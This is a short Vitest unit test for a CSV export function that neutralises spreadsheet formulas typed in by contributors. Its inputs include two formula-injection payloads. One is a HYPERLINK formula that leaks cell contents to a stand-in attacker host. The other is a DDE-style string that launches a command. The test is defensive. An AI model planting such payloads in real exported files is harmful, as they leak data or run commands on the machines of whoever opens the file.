import { describe, expect, it } from 'vitest';
import { spreadsheetCsv } from '../../src/lib/csv/spreadsheet.ts';

describe('spreadsheetCsv (the directory export and the review list)', () => {
  it('defuses formulas a contributor wrote, quotes what needs it, and marks the file as UTF-8 for Excel', () => {
    const csv = spreadsheetCsv(['title', 'contact'], [
      ['=HYPERLINK("https://evil.example.org/?leak="&C2,"Walk")', "@SUM(1+1)*cmd|' /C calc'!A0"],
      ['Café walk', '+44 20 7946 0101'],
      [undefined, '-'],
    ]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'title,contact',
      `"'=HYPERLINK(""https://evil.example.org/?leak=""&C2,""Walk"")",'@SUM(1+1)*cmd|' /C calc'!A0`,
      'Café walk,+44 20 7946 0101',
      ",'-",
      '',
    ]);
  });
});
